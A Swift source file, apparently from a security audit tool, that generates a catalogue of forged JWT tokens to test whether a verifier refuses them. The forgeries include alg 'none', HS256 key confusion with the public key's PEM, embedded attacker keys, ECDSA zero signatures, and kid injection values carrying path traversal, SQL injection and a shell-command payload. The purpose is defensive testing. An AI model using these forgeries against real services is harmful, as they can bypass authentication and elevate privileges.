/// One forged or altered token to present to a verifier that must refuse it.
public struct TokenAttack: Sendable {
    /// Stable short name, such as `alg-none`.
    public let name: String
    /// What the token tries, in a few words.
    public let summary: String
    /// The compact token. It carries the given token's claims: treat it as a secret.
    public let token: String
}

/// The catalogue of token attacks that `portcullis audit` runs: the same
/// families the JOSE verifier's own tests refuse (alg `none`, stripped and
/// altered signatures, key confusion, embedded and remote keys, kid
/// injection, the ECDSA zero signature, `crit`, `b64`, duplicate members,
/// `typ` confusion, oversized tokens, and time, issuer and audience tricks).
///
/// Built from a token the target accepts. Attacks that need a valid
/// signature on altered claims (expired copies, wrong audience, ...) need the
/// signing key (a test key the user owns); without it they are listed as skipped.
public enum TokenAttackCatalogue {
    /// A token taken apart: header and claims as JSON objects, raw segments.
    struct Parts {
        let header: JSONObject
        let claims: JSONObject
        let segments: [Substring]
    }

    static func parts(of token: String) throws -> Parts {
        let segments = token.split(separator: ".", omittingEmptySubsequences: false)
        guard segments.count == 3, let headerBytes = Base64URL.decode(String(segments[0])),
            let claimBytes = Base64URL.decode(String(segments[1]))
        else { throw TokenIssueError("the given token is not a JWS compact token (three base64url segments)") }
        do {
            return Parts(header: try StrictJSONReader().parseObject(headerBytes), claims: try StrictJSONReader().parseObject(claimBytes), segments: segments)
        } catch {
            throw TokenIssueError("the given token's header or claims are not JSON objects")
        }
    }

    static func encode(_ object: JSONObject) -> String { Base64URL.encode(JSONWriter.bytes(.object(object))) }
    static func encode(text: String) -> String { Base64URL.encode(Array(text.utf8)) }

    /// HMAC with any key, even an empty one or a public key's PEM text: forging, not verifying.
    static func hmac(_ algorithm: JWSAlgorithm, key: [UInt8], input: String) throws -> String {
        let mac = try HMACKey(secret: key, digestName: algorithm.digestName!, outputLength: algorithm.hashLength)
        guard let tag = Array(input.utf8).withUnsafeBytes({ mac.authenticate($0) }) else { throw TokenIssueError("HMAC failed") }
        return Base64URL.encode(tag)
    }

    /// Signs `header` and `claims` with `key` (header text as given, so duplicate members survive).
    static func signed(headerText: String, claims: JSONObject, key: JWSKey) throws -> String {
        let input = encode(text: headerText) + "." + encode(claims)
        return input + "." + Base64URL.encode(try key.sign(Array(input.utf8)))
    }

    static func signed(header: JSONObject, claims: JSONObject, key: JWSKey) throws -> String {
        try signed(headerText: JSONWriter.string(.object(header)), claims: claims, key: key)
    }

    /// - Parameters:
    ///   - token: a token the target accepts.
    ///   - publicKeys: the target's public keys (for key confusion); may be empty.
    ///   - signingKey: the key that signed `token`, when the user has it (a test key).
    ///   - now: seconds since the epoch, for the time tricks.
    /// - Returns: the attacks, and the ones skipped with the reason.
    public static func attacks(against token: String, publicKeys: [JWSKey], signingKey: JWSKey?, now: Double) throws -> (
        attacks: [TokenAttack], skipped: [(name: String, reason: String)]
    ) {
        let original = try parts(of: token)
        let body = String(original.segments[1])
        let signature = String(original.segments[2])
        let kid = original.header["kid"]?.stringValue ?? ""
        var attacks: [TokenAttack] = []
        var skipped: [(String, String)] = []
        func add(_ name: String, _ summary: String, _ token: String) { attacks.append(TokenAttack(name: name, summary: summary, token: token)) }

        // alg none, in every spelling, without and with the original signature.
        for spelling in ["none", "None", "NONE", "nOnE"] {
            var header = original.header
            header["alg"] = .string(spelling)
            add("alg-\(spelling)", "alg \"\(spelling)\" with an empty signature", encode(header) + "." + body + ".")
        }
        var noneHeader = original.header
        noneHeader["alg"] = "none"
        add("alg-none-signed", "alg \"none\" keeping the original signature", encode(noneHeader) + "." + body + "." + signature)

        // The signature itself.
        add("signature-stripped", "the original header and claims, no signature", original.segments[0] + "." + body + ".")
        if var bytes = Base64URL.decode(signature), !bytes.isEmpty {
            bytes[bytes.count - 1] ^= 0x01
            add("signature-flipped", "one bit of the signature flipped", original.segments[0] + "." + body + "." + Base64URL.encode(bytes))
            add("signature-truncated", "the signature without its last bytes", original.segments[0] + "." + body + "." + Base64URL.encode(bytes.dropLast(4)))
        }
        var elevated = original.claims
        elevated["sub"] = "admin"
        add("claims-tampered", "sub changed to \"admin\", original signature", original.segments[0] + "." + encode(elevated) + "." + signature)
        add("signature-padded", "base64 padding appended to the signature", token + "==")

        // Key confusion: HMAC keyed with the public key's PEM text.
        if publicKeys.isEmpty {
            skipped.append(("key-confusion", "needs the target's public key (--jwks or --public-key)"))
        }
        for key in publicKeys where !key.isSymmetric {
            guard let pem = try? key.publicPEM() else { continue }
            for (suffix, material) in [("pem", Array(pem.utf8)), ("pem-trimmed", Array(pem.utf8).filter { $0 != 0x0A })] {
                var header = original.header
                header["alg"] = "HS256"
                header["kid"] = .string(key.kid)
                let input = encode(header) + "." + body
                add("key-confusion-\(suffix)", "HS256 keyed with the public key \(key.kid) as text", input + "." + (try hmac(.hs256, key: material, input: input)))
            }
        }

        // Keys the token brings with it.
        let attacker = try JWSKey.generate(algorithm: .es256, kid: "attacker")
        let typ = original.header["typ"] ?? "at+jwt"
        if let jwk = attacker.publicJWK() {
            add("embedded-jwk", "signed by the attacker's key, carried in the jwk header",
                try signed(header: ["alg": "ES256", "typ": typ, "kid": .string(kid), "jwk": .object(jwk)], claims: original.claims, key: attacker))
        }
        add("jku", "signed by the attacker's key, jku pointing elsewhere",
            try signed(header: ["alg": "ES256", "typ": typ, "kid": "attacker", "jku": "http://127.0.0.1:9/jwks.json"], claims: original.claims, key: attacker))
        add("x5u", "signed by the attacker's key, x5u pointing elsewhere",
            try signed(header: ["alg": "ES256", "typ": typ, "kid": "attacker", "x5u": "http://127.0.0.1:9/cert.pem"], claims: original.claims, key: attacker))
        add("unknown-kid", "signed by the attacker's key under its own kid",
            try signed(header: ["alg": "ES256", "typ": typ, "kid": "attacker"], claims: original.claims, key: attacker))

        // kid injection with HMAC over predictable keys.
        for (name, injected, key) in [
            ("kid-path-traversal", "../../../../../../dev/null", [UInt8]()),
            ("kid-sql-injection", "x' UNION SELECT 'secret' -- ", Array("secret".utf8)),
            ("kid-command-injection", "key.pem|sleep 1", [UInt8]()),
        ] {
            let header: JSONObject = ["alg": "HS256", "typ": typ, "kid": .string(injected)]
            let input = encode(header) + "." + body
            add(name, "HS256 with kid \(JSONValue.clip(injected)) and a guessable key", input + "." + (try hmac(.hs256, key: key, input: input)))
        }

        // ECDSA: r = s = 0 ("psychic signatures").
        for algorithm in [JWSAlgorithm.es256, .es384, .es512] {
            var header = original.header
            header["alg"] = .string(algorithm.rawValue)
            let size = algorithm == .es256 ? 64 : algorithm == .es384 ? 96 : 132
            add("ecdsa-zero-\(algorithm.rawValue.lowercased())", "\(algorithm.rawValue) signature of zeros",
                encode(header) + "." + body + "." + Base64URL.encode([UInt8](repeating: 0, count: size)))
        }

        // Header members a strict verifier refuses (original signature).
        var crit = original.header
        crit["crit"] = ["x-unknown"]
        crit["x-unknown"] = true
        add("crit-unknown", "crit naming an unknown header, original signature", encode(crit) + "." + body + "." + signature)
        var b64 = original.header
        b64["b64"] = false
        b64["crit"] = ["b64"]
        add("b64-false", "b64 false (unencoded payload), original signature", encode(b64) + "." + body + "." + signature)
        add("oversized", "a 16 KiB token", original.segments[0] + "." + encode(original.claims.merging(["padding": .string(String(repeating: "A", count: 16_384))])) + "." + signature)

        // Altered claims with a valid signature: only with the signing key.
        let needsKey = [
            "duplicate-alg", "duplicate-claim", "typ-jwt", "typ-missing", "expired", "not-yet-valid", "issued-in-future", "no-exp",
            "exp-as-string", "lifetime-ten-years", "wrong-audience", "wrong-issuer",
        ]
        guard let key = signingKey else {
            for name in needsKey { skipped.append((name, "needs the signing key (--signing-key)")) }
            return (attacks, skipped)
        }
        let header = original.header
        let headerText = JSONWriter.string(.object(header))
        // {"alg":"none", <original members>}: a parser keeping the last alg sees the real one; a lenient one may see none.
        add("duplicate-alg", "the header names alg twice (\"none\" first)", try signed(headerText: "{\"alg\":\"none\"," + headerText.dropFirst(), claims: original.claims, key: key))
        let claimsText = JSONWriter.string(.object(original.claims))
        let dupClaims = "{\"sub\":\"admin\"," + claimsText.dropFirst()
        let dupInput = original.segments[0] + "." + encode(text: dupClaims)
        add("duplicate-claim", "the claims name sub twice (\"admin\" first)", dupInput + "." + Base64URL.encode(try key.sign(Array(dupInput.utf8))))
        var typJWT = header
        typJWT["typ"] = "JWT"
        add("typ-jwt", "typ \"JWT\" instead of at+jwt (RFC 9068 8.1)", try signed(header: typJWT, claims: original.claims, key: key))
        var noTyp = header
        noTyp["typ"] = nil
        add("typ-missing", "no typ", try signed(header: noTyp, claims: original.claims, key: key))
        func claims(_ change: (inout JSONObject) -> Void) -> JSONObject {
            var claims = original.claims
            change(&claims)
            return claims
        }
        let rounded = now.rounded(.down)
        let variants: [(String, String, JSONObject)] = [
            ("expired", "exp an hour ago", claims { $0["exp"] = .number(rounded - 3_600); $0["iat"] = .number(rounded - 4_500); $0["nbf"] = .number(rounded - 4_500) }),
            ("not-yet-valid", "nbf in an hour", claims { $0["nbf"] = .number(rounded + 3_600); $0["exp"] = .number(rounded + 4_500) }),
            ("issued-in-future", "iat in an hour", claims { $0["iat"] = .number(rounded + 3_600); $0["exp"] = .number(rounded + 4_500) }),
            ("no-exp", "no exp claim", claims { $0["exp"] = nil }),
            ("exp-as-string", "exp as a string", claims { $0["exp"] = .string(String(Int(rounded) + 900)) }),
            ("lifetime-ten-years", "exp ten years away", claims { $0["exp"] = .number(rounded + 315_360_000) }),
            ("wrong-audience", "aud of another service", claims { $0["aud"] = "https://another-service.example" }),
            ("wrong-issuer", "iss of another issuer", claims { $0["iss"] = "https://evil.example" }),
        ]
        for (name, summary, altered) in variants {
            add(name, summary, try signed(header: header, claims: altered, key: key))
        }
        return (attacks, skipped)
    }
}

extension JSONObject {
    /// This object with `other`'s members added (replacing same-named ones).
    func merging(_ other: JSONObject) -> JSONObject {
        var result = self
        for member in other.members { result[member.name] = member.value }
        return result
    }
}
